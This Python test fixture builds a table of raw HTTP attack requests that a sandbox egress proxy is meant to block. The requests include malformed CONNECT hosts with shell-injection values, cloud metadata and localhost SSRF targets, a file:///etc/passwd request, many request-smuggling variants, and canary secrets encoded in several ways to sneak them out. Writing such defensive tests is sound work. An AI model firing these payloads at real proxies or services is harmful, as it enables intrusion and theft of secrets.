"""Requests that must not leave: every one is an attack, with the rule that has to answer it.

`ATTACKS` is a table; `test_egress_requests` plays it against the real proxy, and so does the bench. `door` bytes go to a
sandbox's door, `bound` bytes into a tunnel to a host that has a secret bound, `free` bytes into one that has none.
"""

from __future__ import annotations

import base64
import gzip
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from urllib.parse import quote

BOUND = "bound.example"
FREE = "allowed.example"
CANARY = "AKIAPLANTED7CANARY42/wJalrXUtnFEMI"
MALFORMED = "egress.malformed"
CREDENTIAL = "egress.credential"

Content = Callable[[str, str], bytes]
"""Makes the bytes, from the Host value (`host:port`) and the way's placeholder."""


@dataclass(frozen=True)
class Attack:
    name: str
    where: str  # "door", "bound", "free"
    content: Content
    rule: str


def _line(where: str, name: str, rule: str, text: str | bytes) -> Attack:
    raw = text if isinstance(text, bytes) else text.encode("latin-1")

    def content(host: str, word: str) -> bytes:
        return raw.replace(b"{host}", host.encode()).replace(b"{word}", word.encode())

    return Attack(name, where, content, rule)


def _request(
    where: str, name: str, rule: str, *fields: str, path: str = "/", method: str = "GET", body: str = ""
) -> Attack:
    lines = [f"{method} {path} HTTP/1.1", "Host: {host}", *fields]
    return _line(where, name, rule, "\r\n".join(lines) + "\r\n\r\n" + body)


def _connects() -> Iterator[Attack]:
    odd_hosts = (
        "bound.example.", "bound%2eexample", "bound%00.example", "bound.example%00.evil.example", "2130706433", "0x7f000001",
        "0x7f.0.0.1", "0177.0.0.1", "127.1", "127.0.1", "0", "127.0.0.1.", "[::1%25lo]", "[fe80::1%eth0]", "::1", "[::1",
        "::1]", "[127.0.0.1]", "user@bound.example", "user:pass@bound.example", "bound.example@evil.example", "bound..example",
        ".bound.example", "-bound.example", "bound-.example", "bound.example/", "bound.example/x", "bound.example?x",
        "bound.example#x", "bound.example\\", "*.example", "*", "bound.example,evil.example", "bound.example;x", "b o.example",
        "bound\texample", "\xe9vil.example", "xn--a.example", "xn--0.example", "xn--bound-.example", "xn--ls8h=.example",
        "1.2.3.4.5", "1.2.3", "256.1.1.1", "0x.example.0x", "[]", "[:::1]", "[1:2:3:4:5:6:7:8:9]",
        "a" * 64 + ".example", ("a" * 60 + ".") * 5 + "example", "", "localhost:80@evil", "http://bound.example", "//bound.example",
        "bound.example:443", "$(id).example", "`id`.example", "'bound.example'", '"bound.example"', "bound.example|x", "<x>.example",
        "bound\xad.example", "0x7f.1", "017700000001", "1.1.1.0x1",
    )  # fmt: skip
    for host in odd_hosts:
        yield _line("door", f"CONNECT {host[:60]!r} ({len(host)})", MALFORMED, f"CONNECT {host}:443 HTTP/1.1\r\n\r\n")
    for port in (
        "0",
        "65536",
        "99999",
        "-1",
        "+443",
        "0443",
        "4 43",
        "443/",
        "443x",
        "",
        "https",
        "0x1bb",
        "443:443",
        "443%20",
    ):
        yield _line("door", f"CONNECT port {port!r}", MALFORMED, f"CONNECT bound.example:{port} HTTP/1.1\r\n\r\n")
    for name, text in (
        ("without a port", "CONNECT bound.example HTTP/1.1\r\n\r\n"),
        ("in HTTP/0.9", "CONNECT bound.example:443\r\n\r\n"),
        ("in HTTP/2.0", "CONNECT bound.example:443 HTTP/2.0\r\n\r\n"),
        ("in HTTP/1.10", "CONNECT bound.example:443 HTTP/1.10\r\n\r\n"),
        ("with another Host", "CONNECT bound.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n"),
        ("with another port in Host", "CONNECT bound.example:443 HTTP/1.1\r\nHost: bound.example:80\r\n\r\n"),
        ("with two Hosts", "CONNECT bound.example:443 HTTP/1.1\r\nHost: bound.example\r\nHost: evil.example\r\n\r\n"),
        ("with a body", "CONNECT bound.example:443 HTTP/1.1\r\nContent-Length: 3\r\n\r\nabc"),
        ("with a chunked body", "CONNECT bound.example:443 HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
        ("with an upgrade", "CONNECT bound.example:443 HTTP/1.1\r\nUpgrade: h2c\r\n\r\n"),
        ("with bytes behind", "CONNECT bound.example:443 HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\n\r\n"),
        ("in lower case", "connect bound.example:443 HTTP/1.1\r\n\r\n"),
        ("with two spaces", "CONNECT  bound.example:443 HTTP/1.1\r\n\r\n"),
        ("with a tab", "CONNECT\tbound.example:443 HTTP/1.1\r\n\r\n"),
        ("with lone LF", "CONNECT bound.example:443 HTTP/1.1\n\n"),
        ("with a lone CR in the line", "CONNECT bound.example:443\r HTTP/1.1\r\n\r\n"),
        ("with NUL", "CONNECT bound.example\0:443 HTTP/1.1\r\n\r\n"),
        ("with a folded field", "CONNECT bound.example:443 HTTP/1.1\r\nHost: bound.example\r\n :443\r\n\r\n"),
        ("behind an empty line", "\r\nCONNECT bound.example:443 HTTP/1.1\r\n\r\n"),
        ("with an endless line", "CONNECT " + "a" * 9_000 + ".example:443 HTTP/1.1\r\n\r\n"),
        ("with too many fields", "CONNECT bound.example:443 HTTP/1.1\r\n" + "X: 1\r\n" * 101 + "\r\n"),
        ("with a huge head", "CONNECT bound.example:443 HTTP/1.1\r\nX: " + "a" * 70_000 + "\r\n\r\n"),
    ):
        yield _line("door", f"CONNECT {name}", MALFORMED, text)
    yield _line("door", "HTTP/2 by prior knowledge", MALFORMED, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    yield _line("door", "SOCKS inside HTTP", MALFORMED, b"\x05\x01\x00\r\n\r\n")
    yield _line("door", "TLS to the door", MALFORMED, b"\x16\x03\x01\x00\x05hello\r\n\r\n")
    for method in ("GET", "POST", "HEAD", "OPTIONS", "TRACE", "DELETE"):
        text = f"{method} http://bound.example/?leak=1 HTTP/1.1\r\nHost: bound.example\r\n\r\n"
        yield _line("door", f"plain http {method}", "egress.plain", text)
    for target in (
        "/",
        "https://bound.example/",
        "ftp://bound.example/",
        "*",
        "bound.example:443",
        "file:///etc/passwd",
    ):
        yield _line("door", f"GET {target}", "egress.method", f"GET {target} HTTP/1.1\r\nHost: bound.example\r\n\r\n")
    for host in ("evil.example", "secret-in-a-label.evil.example", "bound.example.evil.example", "evilbound.example", "10.0.0.1",
                 "169.254.169.254", "[::1]", "[::ffff:127.0.0.1]", "127.0.0.1", "localhost", "metadata.google.internal", "[fd00:ec2::254]",
                 "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "0.0.0.0", "[::]", "xn--bcher-kva.example.evil.example"):  # fmt: skip
        yield _line("door", f"no rule for {host}", "egress.none", f"CONNECT {host}:443 HTTP/1.1\r\n\r\n")


def _smuggling() -> Iterator[Attack]:
    chunked = "5\r\nhello\r\n0\r\n\r\n"
    for name, fields, body in (
        ("both lengths", ("Content-Length: 5", "Transfer-Encoding: chunked"), chunked),
        ("both lengths, other order", ("Transfer-Encoding: chunked", "Content-Length: 5"), chunked),
        ("two lengths", ("Content-Length: 5", "Content-Length: 6"), "hello!"),
        ("two equal lengths", ("Content-Length: 5", "Content-Length: 5"), "hello"),
        ("a list of lengths", ("Content-Length: 5, 5",), "hello"),
        ("a signed length", ("Content-Length: +5",), "hello"),
        ("a negative length", ("Content-Length: -5",), "hello"),
        ("a hex length", ("Content-Length: 0x5",), "hello"),
        ("a length with a space", ("Content-Length: 5 5",), "hello"),
        ("an empty length", ("Content-Length:",), "hello"),
        ("a decimal length", ("Content-Length: 5.0",), "hello"),
        ("a giant length", ("Content-Length: 9999999999999999",), "hello"),
        ("two codings", ("Transfer-Encoding: chunked", "Transfer-Encoding: identity"), chunked),
        ("a list of codings", ("Transfer-Encoding: gzip, chunked",), chunked),
        ("chunked twice", ("Transfer-Encoding: chunked, chunked",), chunked),
        ("xchunked", ("Transfer-Encoding: xchunked",), chunked),
        ("identity", ("Transfer-Encoding: identity",), ""),
        ("quoted chunked", ('Transfer-Encoding: "chunked"',), chunked),
        ("chunked with a parameter", ("Transfer-Encoding: chunked;q=1",), chunked),
        ("chunked with a vertical tab", ("Transfer-Encoding:\x0bchunked",), chunked),
        ("space before the colon", ("Transfer-Encoding : chunked",), chunked),
        ("tab before the colon", ("Content-Length\t: 5",), "hello"),
        ("underscore coding", ("Transfer_Encoding: chunked",), chunked),
        ("underscore length", ("Content_Length: 5",), "hello"),
        ("folded coding", ("Transfer-Encoding:", " chunked"), chunked),
        ("a folded field", ("X: a", "\tb"), ""),
        ("a field without a name", (": a",), ""),
        ("a field without a colon", ("Nonsense",), ""),
        ("a field with a lone CR", ("X: a\rTransfer-Encoding: chunked",), chunked),
        ("a field with a lone LF", ("X: a\nTransfer-Encoding: chunked",), chunked),
        ("a field with NUL", ("X: a\0b",), ""),
        ("a field with DEL", ("X: a\x7fb",), ""),
        ("a field with bytes over 127", ("X: \xff",), ""),
        ("a name with a space", ("X Y: 1",), ""),
        ("a name with a bracket", ("X[0]: 1",), ""),
        ("a trailer announced", ("Transfer-Encoding: chunked", "Trailer: X"), chunked),
        ("a trailer sent", ("Transfer-Encoding: chunked",), "5\r\nhello\r\n0\r\nX: 1\r\n\r\n"),
        ("TE gzip", ("TE: gzip",), ""),
        ("a chunk extension", ("Transfer-Encoding: chunked",), "5;x=1\r\nhello\r\n0\r\n\r\n"),
        ("a chunk size with a prefix", ("Transfer-Encoding: chunked",), "0x5\r\nhello\r\n0\r\n\r\n"),
        ("a negative chunk", ("Transfer-Encoding: chunked",), "-5\r\nhello\r\n0\r\n\r\n"),
        ("a chunk with a lone LF", ("Transfer-Encoding: chunked",), "5\nhello\r\n0\r\n\r\n"),
        ("a chunk too long", ("Transfer-Encoding: chunked",), "5\r\nhelloX\r\n0\r\n\r\n"),
        ("a chunk with spaces", ("Transfer-Encoding: chunked",), "5 \r\nhello\r\n0\r\n\r\n"),
        ("an empty chunk size", ("Transfer-Encoding: chunked",), "\r\nhello\r\n0\r\n\r\n"),
        ("a giant chunk", ("Transfer-Encoding: chunked",), "fffffffffffffff\r\nhello\r\n0\r\n\r\n"),
        ("an unknown expectation", ("Expect: 200-ok",), ""),
        ("two expectations", ("Expect: 100-continue", "Expect: 100-continue"), ""),
        ("a named hop field", ("Connection: X-Forwarded-For",), ""),
        ("Connection names Host", ("Connection: close, host",), ""),
        ("Connection names Content-Length", ("Connection: content-length", "Content-Length: 5"), "hello"),
        ("h2c", ("Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings", "HTTP2-Settings: AAMAAABkAAQA"), ""),
        ("upgrade to TLS", ("Upgrade: TLS/1.2", "Connection: Upgrade"), ""),
        ("upgrade without Connection", ("Upgrade: websocket", "Sec-WebSocket-Key: x", "Sec-WebSocket-Version: 13"), ""),
        ("websocket without a key", ("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13"), ""),
        ("websocket of old", ("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Key: x", "Sec-WebSocket-Version: 8"), ""),
        ("two content types", ("Content-Type: a/b", "Content-Type: c/d"), ""),
        ("too many fields", tuple(f"X-{n}: 1" for n in range(101)), ""),
        ("a huge field", ("X: " + "a" * 70_000,), ""),
        ("a body packed unseen", ("Content-Encoding: br", "Content-Length: 5"), "hello"),
        ("a body packed twice", ("Content-Encoding: gzip, gzip", "Content-Length: 5"), "hello"),
        ("a body that does not unpack", ("Content-Encoding: gzip", "Content-Length: 5"), "hello"),
    ):  # fmt: skip
        yield _request(
            "free", f"smuggling: {name}", MALFORMED, *fields, method="GET" if not body else "POST", body=body
        )


def _targets() -> Iterator[Attack]:
    for target in ("https://allowed.example/", "http://evil.example/", "*", "evil.example:443", "//", "", "x", "?x"):
        if target != "//":
            yield _line("free", f"target {target!r}", MALFORMED, f"GET {target} HTTP/1.1\r\nHost: {{host}}\r\n\r\n")
    for path in ("/a b", "/a\tb", "/a%zz", "/a%0", "/a%00b", "/a%0d%0aX:1", "/a#b", "/a\\b", "/a\"b", "/a<b>", "/\xe9", "/" + "a" * 9_000,
                 "/%7f", "/%0A", "/%1b"):  # fmt: skip
        yield _line("free", f"path {path[:20]!r}", MALFORMED, f"GET {path} HTTP/1.1\r\nHost: {{host}}\r\n\r\n")
    for host in ("evil.example", "", "allowed.example", "allowed.example.", "{host}.", "{host},evil.example", "evil.example, {host}",
                 "{host}@evil.example", "user@{host}", "{host}/x", " evil.example", "{host} evil.example",
                 "127.0.0.1", "0x7f.1", "[::1]"):  # fmt: skip
        yield _line("free", f"Host {host!r}", MALFORMED, f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n")
    for name, text in (
        ("no Host", "GET / HTTP/1.1\r\n\r\n"),
        ("two Hosts", "GET / HTTP/1.1\r\nHost: {host}\r\nHost: evil.example\r\n\r\n"),
        ("two equal Hosts", "GET / HTTP/1.1\r\nHost: {host}\r\nHost: {host}\r\n\r\n"),
        ("a space before Host's colon", "GET / HTTP/1.1\r\nHost : {host}\r\n\r\n"),
        ("HTTP/1.0", "GET / HTTP/1.0\r\nHost: {host}\r\n\r\n"),
        ("HTTP/0.9", "GET /\r\n\r\n"),
        ("HTTP/2 preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        ("lone line ends", "GET / HTTP/1.1\nHost: {host}\n\n"),
        ("TRACE", "TRACE / HTTP/1.1\r\nHost: {host}\r\n\r\n"),
        ("CONNECT inside", "CONNECT evil.example:443 HTTP/1.1\r\nHost: {host}\r\n\r\n"),
        ("an unknown method", "BREW / HTTP/1.1\r\nHost: {host}\r\n\r\n"),
        ("a method in lower case", "get / HTTP/1.1\r\nHost: {host}\r\n\r\n"),
        ("an empty line before", "\r\nGET / HTTP/1.1\r\nHost: {host}\r\n\r\n"),
    ):
        yield _line("free", name, MALFORMED, text)


def _own_credentials() -> Iterator[Attack]:
    for field in (
        "Authorization: Bearer sk-attacker", "Authorization: Basic YTpi", "authorization: token x", "X-Api-Key: attacker", "Api-Key: a",
        "X-Auth-Token: a", "Cookie: session=a", "Private-Token: a", "X-Goog-Api-Key: a", "Ocp-Apim-Subscription-Key: a", "X-Access-Token: a",
        "X-Amz-Security-Token: a", "X-Client-Secret: a", "Dd-Api-Key: a", "X-Session-Token: a", "X-Figma-Token: a", "X-Vault-Token: a",
        "JWT: a", "X-Auth: a", "X-Shopify-Access-Token: a", "Job-Token: a", "Cookie2: a", "X-Password: a", "X-Csrf-Token: a", "Apikey: a",
    ):  # fmt: skip
        yield _request("bound", f"own credential {field}", CREDENTIAL, field)
    for query in ("key=attacker", "api_key=a", "access_token=a", "x=1&token=a", "apikey=a", "auth=a", "sig=a", "client_secret=a",
                  "X-Amz-Credential=a", "X-Amz-Signature=a", "password=a", "API-KEY=a", "api%5Fkey=a", "x=1;key=a", "user[token]=a"):  # fmt: skip
        yield _request("bound", f"own credential ?{query}", CREDENTIAL, path=f"/v1?{query}")


def _placeholders() -> Iterator[Attack]:
    forms: dict[str, Callable[[str], str]] = {
        "as it is": lambda w: w,
        "reversed": lambda w: w[::-1],
        "in hex": lambda w: w.encode().hex(),
        "in HEX": lambda w: w.encode().hex().upper(),
        "in base64": lambda w: base64.b64encode(w.encode()).decode(),
        "in base64, moved by one": lambda w: base64.b64encode(b"x" + w.encode()).decode(),
        "in base64, moved by two": lambda w: base64.b64encode(b"xy" + w.encode()).decode(),
        "in base32": lambda w: base64.b32encode(w.encode()).decode(),
        "escaped": lambda w: quote(w, safe="").replace("-", "%2D"),
        "escaped whole": lambda w: "".join(f"%{ord(c):02x}" for c in w),
        "escaped twice": lambda w: "".join(f"%25{ord(c):02x}" for c in w),
        "in upper case": str.upper,
    }

    def attack(name: str, where: str, make: Callable[[str], str], template: str) -> Attack:
        def content(host: str, word: str) -> bytes:
            return template.replace("{x}", make(word)).replace("{host}", host).encode()

        return Attack(f"placeholder {name}", where, content, CREDENTIAL)

    for name, make in forms.items():
        yield attack(f"{name} in the path", "bound", make, "GET /a/{x} HTTP/1.1\r\nHost: {host}\r\n\r\n")
        yield attack(f"{name} in the query", "bound", make, "GET /a?q={x} HTTP/1.1\r\nHost: {host}\r\n\r\n")
        yield attack(
            f"{name} in another header", "bound", make, "GET / HTTP/1.1\r\nHost: {host}\r\nX-Note: a{x}b\r\n\r\n"
        )
        yield attack(
            f"{name} to another host",
            "free",
            make,
            "GET / HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {x}\r\n\r\n",
        )
    for name, field in (
        ("with another prefix", "Authorization: token {word}"),
        ("without the prefix", "Authorization: {word}"),
        ("with something behind", "Authorization: Bearer {word}x"),
        ("twice in one header", "Authorization: Bearer {word}{word}"),
        ("in a header's name", "X-{word}: 1"),
        ("in the user agent", "User-Agent: curl {word}"),
        ("in a cookie", "Cookie: a={word}"),
        ("in the referrer", "Referer: https://bound.example/{word}"),
        ("split by spaces", "X-Note: p l a c e h o l d e r {word}"),
    ):
        yield _request("bound", f"placeholder {name}", CREDENTIAL, field)

    def bodied(name: str, kind: str, make: Callable[[str], bytes], *extra: str) -> Attack:
        def content(host: str, word: str) -> bytes:
            body = make(word)
            fields = [f"Host: {host}", f"Content-Type: {kind}", f"Content-Length: {len(body)}", *extra]
            return ("POST /v1/x HTTP/1.1\r\n" + "\r\n".join(fields) + "\r\n\r\n").encode() + body

        return Attack(f"placeholder in a body: {name}", "bound", content, CREDENTIAL)

    yield bodied("json", "application/json", lambda w: json.dumps({"a": w}).encode())
    yield bodied("form", "application/x-www-form-urlencoded", lambda w: f"a={w}".encode())
    yield bodied("base64", "text/plain", lambda w: base64.b64encode(b"a" + w.encode()))
    yield bodied("gzip", "text/plain", lambda w: gzip.compress(w.encode() * 3), "Content-Encoding: gzip")
    yield bodied("far behind", "text/plain", lambda w: b"a" * 200_000 + w.encode())
    yield bodied("a file's name", "multipart/form-data; boundary=b",
                 lambda w: f'--b\r\nContent-Disposition: form-data; filename="{w}.txt"\r\n\r\nx\r\n--b--\r\n'.encode())  # fmt: skip
    yield bodied(
        "escaped json",
        "application/json",
        lambda w: ('{"a":"' + "".join(f"\\u{ord(c):04x}" for c in w) + '"}').encode(),
    )
    yield bodied(
        "split over lines", "text/plain", lambda w: "\n".join(w[i : i + 8] for i in range(0, len(w), 8)).encode()
    )


def _canaries() -> Iterator[Attack]:
    value = CANARY.encode()
    forms = {
        "plain": value, "base64": base64.b64encode(value), "base64 moved": base64.b64encode(b"k=" + value), "hex": value.hex().encode(),
        "reversed": value[::-1], "escaped": quote(value, safe="").encode(),
    }  # fmt: skip
    for name, form in forms.items():
        body = b'{"note":"' + form + b'"}'
        head = b"POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: %d\r\n\r\n" % len(body)
        yield _line("free", f"canary {name} in a body", "egress.canary", head + body)
        yield _line(
            "free",
            f"canary {name} in a header",
            "egress.canary",
            b"GET / HTTP/1.1\r\nHost: {host}\r\nX: " + form + b"\r\n\r\n",
        )
        if name != "plain":
            safe = form.replace(b"+", b"%2B")
            yield _line(
                "free",
                f"canary {name} in the path",
                "egress.canary",
                b"GET /?q=" + safe + b" HTTP/1.1\r\nHost: {host}\r\n\r\n",
            )
    spread = b"\n".join(value[i : i + 5] for i in range(0, len(value), 5))
    head = b"POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: %d\r\n\r\n" % len(spread)
    yield _line("free", "canary spread over lines", "egress.canary", head + spread)
    packed = gzip.compress(value)
    head = b"POST / HTTP/1.1\r\nHost: {host}\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(packed)
    yield _line("free", "canary packed", "egress.canary", head + packed)
    chunks = b"".join(b"1\r\n%c\r\n" % octet for octet in value) + b"0\r\n\r\n"
    head = b"POST / HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n"
    yield _line("free", "canary in chunks of one byte", "egress.canary", head + chunks)


def _all() -> tuple[Attack, ...]:
    found = (*_connects(), *_smuggling(), *_targets(), *_own_credentials(), *_placeholders(), *_canaries())
    names = [attack.name for attack in found]
    assert len(set(names)) == len(names), sorted(name for name in names if names.count(name) > 1)
    return found


ATTACKS = _all()
